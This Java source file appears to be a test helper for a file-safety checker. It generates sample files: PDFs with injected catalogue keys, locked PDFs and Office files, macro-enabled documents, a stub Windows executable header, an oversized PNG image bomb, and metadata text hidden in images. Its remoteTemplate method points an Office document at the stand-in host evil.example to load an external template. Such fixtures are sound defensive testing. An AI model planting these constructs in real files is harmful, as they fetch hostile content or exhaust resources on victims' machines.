package uk.saferhub.files.checking;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Makes files, good and bad, of every kind. */
public final class Evil {

    private static final String OOXML = "application/vnd.openxmlformats-officedocument.";

    private Evil() {}

    public static byte[] text(String words) {
        return words.getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] joined(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (byte[] part : parts) all.writeBytes(part);
        return all.toByteArray();
    }

    /** A PDF with a page for each of these lines. */
    public static byte[] pdf(String... pages) {
        try (PDDocument pdf = made(pages)) {
            return bytes(pdf);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDDocument made(String... pages) throws IOException {
        PDDocument pdf = new PDDocument();
        for (String words : pages) {
            PDPage page = new PDPage();
            pdf.addPage(page);
            try (var text = new PDPageContentStream(pdf, page)) {
                text.beginText();
                text.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                text.newLineAtOffset(72, 700);
                text.setLeading(20);
                for (String line : words.split("\n")) {
                    text.showText(line);
                    text.newLine();
                }
                text.endText();
            }
        }
        return pdf;
    }

    private static byte[] bytes(PDDocument pdf) throws IOException {
        var out = new ByteArrayOutputStream();
        pdf.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
        return out.toByteArray();
    }

    /** A PDF whose catalogue has this entry too: written by hand, with the room that the words take. */
    static byte[] pdfWith(String key, String value) {
        String body = new String(pdf("Words"), StandardCharsets.ISO_8859_1);
        String with = body.replaceFirst(
                "/Type /Catalog", java.util.regex.Matcher.quoteReplacement("/Type /Catalog " + key + " " + value));
        if (with.equals(body)) throw new IllegalStateException("no catalogue");
        return with.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] lockedPdf() throws IOException {
        try (PDDocument pdf = made("Words")) {
            pdf.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
            return bytes(pdf);
        }
    }

    static byte[] ole() throws IOException {
        try (var old = new POIFSFileSystem()) {
            old.createDocument(new java.io.ByteArrayInputStream(new byte[] {1}), "Contents");
            var out = new ByteArrayOutputStream();
            old.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    static byte[] lockedOffice() throws IOException {
        try (var old = new POIFSFileSystem()) {
            old.createDocument(new java.io.ByteArrayInputStream(new byte[] {1}), "EncryptedPackage");
            var out = new ByteArrayOutputStream();
            old.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    static byte[] zip(Map<String, String> parts) throws IOException {
        var all = new LinkedHashMap<String, byte[]>();
        parts.forEach((name, words) -> all.put(name, text(words)));
        return packed(all);
    }

    private static byte[] packed(Map<String, byte[]> parts) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        }
        return out.toByteArray();
    }

    static byte[] docx(Map<String, byte[]> more) throws IOException {
        return office(OOXML + "wordprocessingml.document.main+xml", more);
    }

    static byte[] xlsx(Map<String, byte[]> more) throws IOException {
        return office(OOXML + "spreadsheetml.sheet.main+xml", more);
    }

    static byte[] macroDocx() throws IOException {
        return office("application/vnd.ms-word.document.macroEnabled.main+xml", Map.of());
    }

    private static byte[] office(String type, Map<String, byte[]> more) throws IOException {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put("[Content_Types].xml", text("<Types><Override ContentType=\"" + type + "\"/></Types>"));
        parts.put("word/document.xml", text("<document/>"));
        parts.putAll(more);
        return packed(parts);
    }

    static byte[] odf(String kind, Map<String, byte[]> more) throws IOException {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put("mimetype", text("application/vnd.oasis.opendocument." + kind));
        parts.put("content.xml", text("<office/>"));
        parts.putAll(more);
        return packed(parts);
    }

    static byte[] remoteTemplate() {
        return text(
                "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>");
    }

    /** The head of a Windows program. */
    static byte[] program() {
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] jpeg() {
        return picture("jpg");
    }

    static byte[] png() {
        return picture("png");
    }

    private static byte[] picture(String format) {
        try {
            var image = new BufferedImage(64, 48, BufferedImage.TYPE_INT_RGB);
            for (int x = 0; x < 64; x++) for (int y = 0; y < 48; y++) image.setRGB(x, y, x * y * 997);
            var out = new ByteArrayOutputStream();
            ImageIO.write(image, format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A photo with a place in its camera's words, turned as cameras turn them (6: on its side). */
    public static byte[] jpegTakenAt(String place, int turned) {
        byte[] words = text(place);
        ByteBuffer exif = ByteBuffer.allocate(6 + 8 + 2 + 12 + 4 + words.length);
        exif.put(text("Exif\0\0"))
                .put(text("MM"))
                .putShort((short) 42)
                .putInt(8)
                .putShort((short) 1);
        exif.putShort((short) 274)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) turned)
                .putShort((short) 0);
        exif.putInt(0).put(words);
        byte[] photo = jpeg();
        ByteBuffer head = ByteBuffer.allocate(6);
        head.putShort((short) 0xFFD8).putShort((short) 0xFFE1).putShort((short) (exif.capacity() + 2));
        return joined(head.array(), exif.array(), java.util.Arrays.copyOfRange(photo, 2, photo.length));
    }

    static byte[] pngSaying(String words) {
        byte[] picture = png();
        byte[] head = java.util.Arrays.copyOf(picture, 33);
        return joined(
                head,
                chunk("tEXt", joined(text("Comment\0"), text(words))),
                java.util.Arrays.copyOfRange(picture, 33, picture.length));
    }

    static byte[] hugePng() {
        byte[] picture = png();
        byte[] size = ByteBuffer.allocate(13)
                .putInt(100_000)
                .putInt(100_000)
                .put(new byte[] {8, 2, 0, 0, 0})
                .array();
        return joined(
                java.util.Arrays.copyOf(picture, 8),
                chunk("IHDR", size),
                java.util.Arrays.copyOfRange(picture, 33, picture.length));
    }

    private static byte[] chunk(String kind, byte[] words) {
        var sum = new CRC32();
        sum.update(text(kind));
        sum.update(words);
        return joined(
                ByteBuffer.allocate(4).putInt(words.length).array(),
                text(kind),
                words,
                ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
    }

    static byte[] mail(String name, byte[] attached) {
        String body = """
                From: somebody@example.org
                To: hub@example.org
                Date: Mon, 1 Jun 2026 10:00:00 +0100
                Subject: Statement
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary=edge

                --edge
                Content-Type: text/plain; charset=utf-8

                See the statement.
                --edge
                Content-Type: application/octet-stream
                Content-Disposition: attachment; filename="%s"
                Content-Transfer-Encoding: base64

                %s
                --edge--
                """;
        return text(body.formatted(name, Base64.getMimeEncoder().encodeToString(attached))
                .replace("\r\n", "\n")
                .replace("\n", "\r\n"));
    }
}
